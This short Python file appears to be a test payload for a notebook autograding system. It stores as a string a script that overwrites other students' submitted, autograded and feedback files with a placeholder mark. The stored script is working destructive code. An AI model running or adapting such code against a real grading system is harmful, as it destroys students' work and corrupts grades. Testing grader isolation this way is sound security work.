"""Overwrites the submissions and the marked notebooks of others with its own."""

LAST = """
import shutil
from pathlib import Path

for course in (Path("@course@"), *Path.cwd().parents):
    for folder in ("submitted", "autograded", "feedback"):
        for file in (course / folder).glob("*/*/*"):
            if file.is_file() and "overwritten" not in str(file):
                try:
                    file.write_text("@mark@")
                except OSError as error:
                    print(error)
"""
